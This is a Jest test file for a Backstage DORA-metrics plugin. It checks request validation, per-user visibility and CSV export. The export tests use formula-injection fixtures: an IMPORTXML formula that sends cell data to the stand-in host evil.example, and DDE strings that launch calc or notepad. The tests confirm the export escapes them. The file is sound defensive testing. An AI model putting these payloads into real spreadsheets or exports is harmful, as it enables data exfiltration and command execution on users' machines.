import type { AddressInfo } from 'node:net';
import type { Entity } from '@backstage/catalog-model';
import {
  mockCredentials,
  mockServices,
  startTestBackend,
  TestDatabases,
} from '@backstage/backend-test-utils';
import { parseCsv } from '@paved/csv-export';
import { doraPlugin } from './plugin';
import { catalogAsSeenByFactory } from './testUtils/catalogAsSeenBy';

jest.setTimeout(60_000);

const component = (name: string, owner: string, alias?: string): Entity => ({
  apiVersion: 'backstage.io/v1alpha1',
  kind: 'Component',
  metadata: {
    name,
    namespace: 'default',
    annotations: alias ? { 'paved.dev/dora-service': alias } : {},
  },
  spec: { type: 'service', owner, lifecycle: 'production' },
  relations: [{ type: 'ownedBy', targetRef: `group:default/${owner}` }],
});

// (No colon: a service name with one is read as an entity ref.)
const MALICIOUS_SERVICE = '=IMPORTXML(CONCAT("evil.example/?q=",A2),"//a")';

const entities: Entity[] = [
  component('checkout-service', 'checkout'),
  component('secret-service', 'checkout'),
  component('formula-service', 'checkout', MALICIOUS_SERVICE),
  {
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'Group',
    metadata: { name: 'checkout', namespace: 'default' },
    spec: { type: 'team', children: [] },
  },
  {
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'Group',
    metadata: { name: 'platform', namespace: 'default', title: 'Platform' },
    spec: { type: 'team', children: [] },
  },
];

const OUTSIDER = 'user:default/outsider';
const TEAMMATE = 'user:default/teammate';

const deployment = (
  id: string,
  service: string,
  finishedAt: string,
  extra = {},
) => ({
  type: 'deployment',
  id,
  service,
  environment: 'production',
  status: 'success',
  startedAt: '2026-10-01T09:00:00Z',
  finishedAt,
  commitSha: 'abc1234',
  ...extra,
});

const WINDOW = 'from=2026-10-01T00:00:00Z&to=2026-10-31T00:00:00Z';

describe('DORA reads', () => {
  const databases = TestDatabases.create({ ids: ['SQLITE_3'] });

  async function startBackend() {
    const knex = await databases.init('SQLITE_3');
    const backend = await startTestBackend({
      features: [
        doraPlugin,
        mockServices.database.factory({ knex }),
        catalogAsSeenByFactory(entities, {
          [OUTSIDER]: ['component:default/secret-service'],
        }),
      ],
    });
    const { port } = backend.server.address() as AddressInfo;
    const get = async (path: string, user = TEAMMATE) => {
      const res = await fetch(`http://localhost:${port}/api/dora${path}`, {
        headers: { authorization: mockCredentials.user.header(user) },
      });
      const text = await res.text();
      let body;
      try {
        body = JSON.parse(text);
      } catch {
        body = text;
      }
      return { status: res.status, body, text };
    };
    const post = async (events: unknown[]) => {
      const res = await fetch(`http://localhost:${port}/api/dora/events`, {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          authorization: mockCredentials.user.header('user:default/ci-bot'),
        },
        body: JSON.stringify({ events }),
      });
      expect(res.status).toBe(200);
    };
    return { backend, knex, get, post };
  }

  describe('bounds', () => {
    const refused: Array<[string, RegExp]> = [
      ['/metrics?from=2026-10-01', /^from must be an ISO-8601 timestamp/],
      [
        '/metrics?from=2026-10-01T00:00:00Z&to=2026-10-31T00:00:00',
        /^to must be an ISO-8601 timestamp with an offset/,
      ],
      // An unencoded + arrives as a space.
      [
        '/metrics?from=2026-10-01T00:00:00+02:00',
        /^from must be .*write the \+ of the offset as %2B/,
      ],
      [
        '/metrics?from=2026-02-30T00:00:00Z&to=2026-03-31T00:00:00Z',
        /^from is not a date and time that exists/,
      ],
      [
        '/metrics?from=2026-10-31T00:00:00Z&to=2026-10-01T00:00:00Z',
        /^from \(2026-10-31T00:00:00.000Z\) must be before to/,
      ],
      [
        '/metrics?from=2024-10-01T00:00:00Z&to=2026-10-03T00:00:00Z',
        /longer than 731 days/,
      ],
      [
        '/series?from=0001-01-01T00:00:00Z&to=9999-12-31T23:59:59Z&metric=deploymentFrequency&interval=day',
        /longer than 731 days/,
      ],
      [`/metrics?${WINDOW}&entityRef=api:default/orders`, /not a api/],
      [`/metrics?${WINDOW}&entityRef=checkout`, /^entityRef must be/],
      [
        `/metrics?${WINDOW}&entityRef=component:default/${'x'.repeat(300)}`,
        /entityRef must NOT have more than 255 characters/,
      ],
      [
        `/metrics?${WINDOW}&environment=${'p'.repeat(64)}`,
        /environment must NOT have more than 63 characters/,
      ],
      [`/metrics?${WINDOW}&environment=prod%0Auction`, /^environment/],
      [`/metrics?${WINDOW}&colour=blue`, /Unknown query parameter 'colour'/],
      [
        '/metrics?from=2026-10-01T00:00:00Z&from=2026-10-02T00:00:00Z',
        /from must be string/,
      ],
      [
        `/breakdown?${WINDOW}&metric=changeFailRate`,
        /Unknown query parameter 'metric'/,
      ],
      [
        `/series?${WINDOW}&metric=vibes`,
        /metric must be equal to one of the allowed values: deploymentFrequency/,
      ],
      [
        `/series?${WINDOW}&metric=changeFailRate&interval=hour`,
        /interval must be equal to one of the allowed values: day, week, month/,
      ],
      [
        `/deployments?${WINDOW}&filter=odd`,
        /filter must be equal to one of the allowed values: all, failed/,
      ],
      [`/deployments?${WINDOW}&limit=0`, /limit must be >= 1/],
      [`/deployments?${WINDOW}&limit=501`, /limit must be <= 500/],
      [`/deployments?${WINDOW}&limit=ten`, /limit must be integer/],
      [`/deployments?${WINDOW}&cursor=%%%`, /^cursor is not one/],
      [
        `/deployments?${WINDOW}&cursor=${Buffer.from('-5').toString(
          'base64url',
        )}`,
        /^cursor is not one/,
      ],
      [
        `/groups?${WINDOW}&entityRef=group:default/checkout`,
        /Unknown query parameter 'entityRef'/,
      ],
      [`/groups?${WINDOW}&type=te%20am`, /^type must be a group type/],
      [`/groups?${WINDOW}&type=${'t'.repeat(64)}`, /type must NOT have more/],
      ['/export.csv?to=2026-10-31', /^to must be an ISO-8601 timestamp/],
      [`/export.csv?${WINDOW}&limit=5`, /Unknown query parameter 'limit'/],
    ];

    it('refuses a bad read with 400 naming what is wrong, without reading the database', async () => {
      const { backend, knex, get } = await startBackend();
      try {
        const queries: string[] = [];
        const onQuery = (q: { sql: string }) => queries.push(q.sql);
        knex.on('query', onQuery);
        for (const [path, message] of refused) {
          const res = await get(path);
          expect({ path, status: res.status }).toEqual({ path, status: 400 });
          expect({ path, message: res.body.error?.message }).toEqual({
            path,
            message: expect.stringMatching(message),
          });
        }
        knex.removeListener('query', onQuery);
        expect(queries).toEqual([]);
      } finally {
        await backend.stop();
      }
    });

    it('accepts offsets other than Z and the longest window, and bounds the series', async () => {
      const { backend, get, post } = await startBackend();
      try {
        await post([
          deployment('d1', 'checkout-service', '2026-10-01T10:00:00Z'),
        ]);
        const m = await get(
          '/metrics?entityRef=component:default/checkout-service&from=2026-10-01T02:00:00%2B02:00&to=2026-10-30T19:00:00-05:00',
        );
        expect(m.status).toBe(200);
        expect(m.body).toMatchObject({
          from: '2026-10-01T00:00:00.000Z',
          to: '2026-10-31T00:00:00.000Z',
          deploymentFrequency: { deployments: 1 },
        });

        // 731 days by day: the most a series can hold is well under 1,000.
        const series = await get(
          '/series?entityRef=component:default/checkout-service&from=2024-10-31T00:00:00Z&to=2026-10-31T00:00:00Z&metric=deploymentFrequency&interval=day',
        );
        expect(series.status).toBe(200);
        expect(series.body.points).toHaveLength(730);
        expect(
          series.body.points.reduce(
            (n: number, p: { value: number }) => n + p.value,
            0,
          ),
        ).toBe(1);
      } finally {
        await backend.stop();
      }
    });
  });

  it("resolves scopes with the caller's credentials: hidden entities are not found and left out", async () => {
    const { backend, get, post } = await startBackend();
    try {
      await post([
        deployment('c1', 'checkout-service', '2026-10-01T10:00:00Z'),
        deployment('s1', 'secret-service', '2026-10-02T10:00:00Z'),
        deployment('s2', 'secret-service', '2026-10-03T10:00:00Z'),
      ]);
      const secret = `entityRef=component:default/secret-service&${WINDOW}`;

      // A teammate who may see the component gets its numbers.
      const seen = await get(`/metrics?${secret}`, TEAMMATE);
      expect(seen.status).toBe(200);
      expect(seen.body.deploymentFrequency.deployments).toBe(2);

      // The outsider may not: every read of it is a 404, with no numbers.
      for (const path of [
        `/metrics?${secret}`,
        `/breakdown?${secret}`,
        `/series?${secret}&metric=deploymentFrequency`,
        `/trends?${secret}`,
        `/deployments?${secret}`,
        `/export.csv?${secret}`,
      ]) {
        const res = await get(path, OUTSIDER);
        expect({ path, status: res.status }).toEqual({ path, status: 404 });
        expect(res.body.error).toEqual({
          name: 'NotFoundError',
          message: 'No entity component:default/secret-service in the catalog',
        });
        expect(Object.keys(res.body).sort()).toEqual([
          'error',
          'request',
          'response',
        ]);
      }

      // The team's numbers leave out what the outsider may not see.
      const team = `entityRef=group:default/checkout&${WINDOW}`;
      expect(
        (await get(`/metrics?${team}`, TEAMMATE)).body.deploymentFrequency
          .deployments,
      ).toBe(3);
      const outsiderTeam = await get(`/metrics?${team}`, OUTSIDER);
      expect(outsiderTeam.body.deploymentFrequency.deployments).toBe(1);
      const breakdown = await get(`/breakdown?${team}`, OUTSIDER);
      expect(
        breakdown.body.services.map((s: { entityRef: string }) => s.entityRef),
      ).toEqual([
        'component:default/checkout-service',
        'component:default/formula-service',
      ]);
      const drillDown = await get(`/deployments?${team}`, OUTSIDER);
      expect(drillDown.body.items.map((d: { id: string }) => d.id)).toEqual([
        'c1',
      ]);
      expect(drillDown.body.totalItems).toBe(1);
      const csv = await get(`/export.csv?${team}`, OUTSIDER);
      expect(csv.text).not.toMatch(/secret-service/);

      // And every team's at once, each what /metrics answers for it.
      for (const user of [TEAMMATE, OUTSIDER]) {
        const groups = await get(`/groups?${WINDOW}`, user);
        expect(groups.status).toBe(200);
        expect(groups.body).toMatchObject({ type: 'team', truncated: false });
        expect(
          groups.body.groups.map((g: { entityRef: string }) => g.entityRef),
        ).toEqual(['group:default/checkout', 'group:default/platform']);
        expect(groups.body.groups[1].title).toBe('Platform');
        for (const group of groups.body.groups) {
          const one = await get(
            `/metrics?entityRef=${group.entityRef}&${WINDOW}`,
            user,
          );
          expect(group.metrics).toEqual(one.body);
        }
        expect(
          groups.body.groups[0].metrics.deploymentFrequency.deployments,
        ).toBe(user === TEAMMATE ? 3 : 1);
        // With the windows before it, each group's are what /metrics
        // answers for it with them.
        const compared = await get(`/groups?${WINDOW}&previousWindows=2`, user);
        for (const group of compared.body.groups) {
          const one = await get(
            `/metrics?entityRef=${group.entityRef}&${WINDOW}&previousWindows=2`,
            user,
          );
          expect(group.metrics).toEqual(one.body);
          expect(group.metrics.previous).toHaveLength(2);
        }
      }
      expect(
        (await get(`/groups?${WINDOW}&type=department`)).body.groups,
      ).toEqual([]);

      // So do the organisation's.
      const org = await get(`/metrics?${WINDOW}`, OUTSIDER);
      expect(org.body.deploymentFrequency.deployments).toBe(1);
      const orgBreakdown = await get(`/breakdown?${WINDOW}`, OUTSIDER);
      expect(
        orgBreakdown.body.services.map(
          (s: { entityRef: string }) => s.entityRef,
        ),
      ).toEqual(['component:default/checkout-service']);
    } finally {
      await backend.stop();
    }
  });

  it('splits lead time, change fail rate and rework by AI-assisted changes and the others', async () => {
    const { backend, get, post } = await startBackend();
    const change = (sha: string, authoredAt: string, extra = {}) => ({
      type: 'change',
      id: sha,
      service: 'checkout-service',
      sha,
      authoredAt,
      ...extra,
    });
    try {
      await post([
        // Marked by CI from the commit trailer, and by the PR label.
        change('a1a1a1a', '2026-10-02T08:00:00Z', { aiAssisted: true }),
        change('a2a2a2a', '2026-10-10T09:00:00Z', { labels: ['ai-assisted'] }),
        change('b1b1b1b', '2026-10-01T10:00:00Z', { labels: ['feature'] }),
        deployment('d1', 'checkout-service', '2026-10-02T10:00:00Z', {
          commitSha: 'a1a1a1a',
          commits: ['a1a1a1a'],
        }),
        // Rolls d1 back: d1 failed; d2 delivers no change of its own.
        deployment('d2', 'checkout-service', '2026-10-02T12:00:00Z', {
          commitSha: '0000000',
          rollback: true,
        }),
        deployment('d3', 'checkout-service', '2026-10-03T10:00:00Z', {
          commitSha: 'b1b1b1b',
          commits: ['b1b1b1b'],
        }),
        deployment('d4', 'checkout-service', '2026-10-10T10:00:00Z', {
          commitSha: 'a2a2a2a',
          commits: ['a2a2a2a'],
        }),
      ]);
      const split = await get(
        `/ai-split?entityRef=component:default/checkout-service&${WINDOW}`,
      );
      expect(split.status).toBe(200);
      expect(split.body.aiAssisted).toMatchObject({
        changes: 2,
        changeLeadTime: { p50: 5400, n: 2 },
        deployments: 2,
        failed: 1,
        changeFailRate: 0.5,
      });
      expect(split.body.other).toMatchObject({
        changes: 1,
        changeLeadTime: { p50: 172800, n: 1 },
        deployments: 1,
        failed: 0,
        changeFailRate: 0,
      });
      expect(split.body.truncated).toBe(false);
      // The same scope rules as every read.
      expect(
        (await get(`/ai-split?entityRef=component:default/nowhere&${WINDOW}`))
          .status,
      ).toBe(404);
      expect((await get(`/ai-split?${WINDOW}&extra=1`)).status).toBe(400);
    } finally {
      await backend.stop();
    }
  });

  it('gives all five trends in one read, each point what the series of that metric answers', async () => {
    const { backend, get, post } = await startBackend();
    try {
      await post([
        deployment('c1', 'checkout-service', '2026-10-01T10:00:00Z'),
        deployment('c2', 'checkout-service', '2026-10-09T10:00:00Z', {
          rollback: true,
        }),
        deployment('s1', 'secret-service', '2026-10-16T10:00:00Z'),
        {
          type: 'incident',
          id: 'i1',
          service: 'checkout-service',
          environment: 'production',
          openedAt: '2026-10-01T11:00:00Z',
          resolvedAt: '2026-10-01T13:00:00Z',
          causedByDeploymentId: 'c1',
        },
      ]);
      const team = `entityRef=group:default/checkout&${WINDOW}`;
      const trends = await get(`/trends?${team}&interval=week`);
      expect(trends.status).toBe(200);
      expect(trends.body.interval).toBe('week');
      expect(trends.body.points).toHaveLength(5);
      for (const metric of [
        'deploymentFrequency',
        'changeLeadTime',
        'changeFailRate',
        'failedDeploymentRecoveryTime',
        'deploymentReworkRate',
      ]) {
        const series = await get(
          `/series?${team}&metric=${metric}&interval=week`,
        );
        expect(
          trends.body.points.map((p: Record<string, unknown>) => ({
            start: p.start,
            end: p.end,
            ...(p[metric] as object),
          })),
        ).toEqual(series.body.points);
      }
      expect(trends.body.points[0].changeFailRate).toEqual({ value: 1, n: 1 });
      const refused = await get(`/trends?${team}&metric=changeFailRate`);
      expect(refused.status).toBe(400);
    } finally {
      await backend.stop();
    }
  });

  it('exports a window of more deployments than one read batch, each once', async () => {
    const { backend, get, post } = await startBackend();
    try {
      const minute = (i: number) =>
        new Date(Date.parse('2026-10-02T00:00:00Z') + i * 60_000).toISOString();
      await post(
        Array.from({ length: 1000 }, (_, i) =>
          deployment(`bulk-${i}`, 'checkout-service', minute(i)),
        ),
      );
      await post([
        deployment('bulk-1000', 'checkout-service', minute(1000)),
        // Three more finished with bulk-3, so the first read batch (1,000
        // rows, newest first) ends inside the tie: none is lost or repeated.
        deployment('tie-1', 'checkout-service', minute(3)),
        deployment('tie-2', 'checkout-service', minute(3)),
        deployment('tie-3', 'checkout-service', minute(3)),
      ]);
      const res = await get(
        `/export.csv?entityRef=component:default/checkout-service&${WINDOW}`,
      );
      expect(res.status).toBe(200);
      const [header, ...rows] = parseCsv(res.text);
      expect(header[0]).toBe('deployment_id');
      const ids = rows.map(r => r[0]);
      expect(ids).toHaveLength(1004);
      expect(new Set(ids).size).toBe(1004);
      expect(ids.slice(996, 1001)).toEqual([
        'bulk-4',
        'tie-3',
        'tie-2',
        'tie-1',
        'bulk-3',
      ]);
      expect(ids[0]).toBe('bulk-1000');
      expect(ids[ids.length - 1]).toBe('bulk-0');
    } finally {
      await backend.stop();
    }
  });

  it('exports CSV a spreadsheet shows as text: no formula cells, hex commit SHAs only', async () => {
    const { backend, get, post } = await startBackend();
    try {
      await post([
        deployment('=1+1', MALICIOUS_SERVICE, '2026-10-01T10:00:00Z', {
          commitSha: '=cmd|/C calc!A0',
        }),
        deployment(
          "+cmd|' /C notepad'!A0",
          'checkout-service',
          '2026-10-02T10:00:00Z',
          { commitSha: 'ABCDEF0123456789' },
        ),
        deployment('@SUM(1)', 'checkout-service', '2026-10-03T10:00:00Z'),
        deployment('-2+3', 'checkout-service', '2026-10-04T10:00:00Z'),
        deployment('\tTAB', 'checkout-service', '2026-10-05T10:00:00Z'),
        deployment('\rCR', 'checkout-service', '2026-10-06T10:00:00Z'),
      ]);
      const res = await get(
        `/export.csv?entityRef=group:default/checkout&${WINDOW}`,
      );
      expect(res.status).toBe(200);
      const [header, ...rows] = parseCsv(res.text);
      expect(rows).toHaveLength(6);
      for (const cell of [...header, ...rows.flat()]) {
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
      const column = (name: string) => header.indexOf(name);
      const byId = new Map(rows.map(r => [r[column('deployment_id')], r]));
      const formula = byId.get("'=1+1")!;
      expect(formula[column('service')]).toBe(`'${MALICIOUS_SERVICE}`);
      expect(formula[column('commit_sha')]).toBe('');
      expect(byId.get("'+cmd|' /C notepad'!A0")![column('commit_sha')]).toBe(
        'abcdef0123456789',
      );
      expect(byId.get("'@SUM(1)")![column('commit_sha')]).toBe('abc1234');
      expect([...byId.keys()]).toEqual(
        expect.arrayContaining(["'-2+3", "'\tTAB", "'\rCR"]),
      );
    } finally {
      await backend.stop();
    }
  });
});
